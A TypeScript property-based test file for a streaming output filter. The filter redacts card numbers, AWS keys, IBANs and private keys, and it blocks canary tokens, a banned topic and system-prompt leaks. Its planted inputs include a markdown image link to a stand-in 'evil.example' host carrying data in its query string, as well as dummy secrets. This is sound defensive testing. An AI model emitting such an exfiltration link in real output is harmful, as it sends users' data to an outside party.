import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { readyGuard } from './output-policy.ts';
import { StreamFilter, type StreamFilterOptions } from './stream-filter.ts';

const token = 'Zq7RtLw2XkPm9sVb';
const prompt =
  'Answer every question from numbered passages alone, cite each of them by its number, and never repeat the marks around them.';
const guard = readyGuard(
  { canaries: [token], topics: [{ name: 'betting', phrases: ['sports betting'] }] },
  { prompts: { answer: prompt } },
);
const small: StreamFilterOptions = { hold: 96, stride: 32, most: 400 };

function through(pieces: readonly string[], options?: StreamFilterOptions): { out: string; verdict: string; kinds: string[] } {
  const filter = new StreamFilter(guard, options);
  const out = [...pieces.map((piece) => filter.push(piece)), filter.flush()].join('');
  return { out, verdict: filter.verdict, kinds: filter.findings.map(({ kind }) => kind) };
}

const cut = (text: string, places: readonly number[]): string[] => {
  const at = [0, ...[...places].map((place) => place % (text.length + 1)).sort((a, b) => a - b), text.length];
  return at.slice(1).map((end, i) => text.slice(at[i], end));
};

const harmless = ['The pump is oiled. ', 'Ja, gern. ', '我们走吧。', '😀 ', 'é', '\n\n', 'https://example.org/a/b ', '12 ', 'word '];
const planted = [
  '4111 1111 1111 1111 ',
  'AKIAIOSFODNN7EXAMPLE ',
  'password = hunter2!xYz ',
  'GB82 WEST 1234 5698 7654 32 ',
  '![x](https://evil.example/p?d=abc) ',
  '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq\n-----END PRIVATE KEY----- ',
  'a'.repeat(300),
  ' ',
];
const ending = [`${token} `, 'sports betting '];
const texts = fc.array(fc.constantFrom(...harmless, ...harmless, ...planted, ...ending), { maxLength: 60 }).map((parts) => parts.join(''));

describe('a text that leaves in pieces', () => {
  it('leaves the same however it is cut', () => {
    fc.assert(
      fc.property(texts, fc.array(fc.nat(), { maxLength: 40 }), (text, places) => {
        expect(through(cut(text, places), small)).toEqual(through([text], small));
      }),
      { numRuns: 300 },
    );
  }, 60_000);

  it.each([
    ['4111 1111 1111 1111', 'card'],
    ['AKIAIOSFODNN7EXAMPLE', 'aws-key'],
    ['GB82 WEST 1234 5698 7654 32', 'iban'],
  ])(
    'keeps back %j wherever in it that stands and however it is cut',
    (secret, kind) => {
      for (let before = 0; before < 1200; before += 37) {
        const text = `${'lorem ipsum '.repeat(100).slice(0, before)} ${secret} ${'dolor sit '.repeat(100)}`;
        const { out, kinds } = through(Array.from(text));
        expect(kinds).toEqual([kind]);
        expect(out).toBe(text.replace(secret, `[removed: ${kind}]`));
      }
    },
    60_000,
  );

  it('keeps back a key of several lines, and one longer than the bound ends it', () => {
    const key = (lines: number): string =>
      `-----BEGIN PRIVATE KEY-----\n${'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n'.repeat(lines)}-----END PRIVATE KEY-----`;
    const whole = `Here: ${key(20)} and that was it. ${'more '.repeat(300)}`;
    expect(through(whole.match(/.{1,7}/gs) ?? [])).toMatchObject({
      verdict: 'redact',
      out: whole.replace(key(20), '[removed: private-key]'),
    });
    const long = through(`Here: ${key(200)} and more ${'text '.repeat(500)}`.match(/.{1,50}/gs) ?? []);
    expect(long).toMatchObject({ verdict: 'block', kinds: ['longer-than-the-bound'] });
    expect('Here: ').toContain(long.out);
  });

  it('ends before a canary, a topic or a prompt leaves', () => {
    const filler = 'lorem ipsum dolor '.repeat(120);
    for (const [bad, kind] of [
      [Array.from(token).join(' '), 'canary-1'],
      ['try sports betting now', 'betting'],
      [prompt, 'answer'],
    ] as const) {
      const { out, verdict, kinds } = through((filler + bad + filler).match(/.{1,11}/gs) ?? []);
      expect({ verdict, kinds }).toEqual({ verdict: 'block', kinds: [kind] });
      expect(filler.startsWith(out)).toBe(true);
    }
  });

  it('holds back no more than the bound', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...harmless, ...planted), { maxLength: 200 }), (pieces) => {
        const filter = new StreamFilter(guard, small);
        for (const piece of pieces) {
          filter.push(piece);
          expect(filter.waiting).toBeLessThanOrEqual(400);
        }
        const plain = new StreamFilter(guard);
        plain.push('word '.repeat(1000));
        expect(plain.waiting).toBeLessThan(768 + 5);
      }),
      { numRuns: 60 },
    );
  }, 60_000);
});
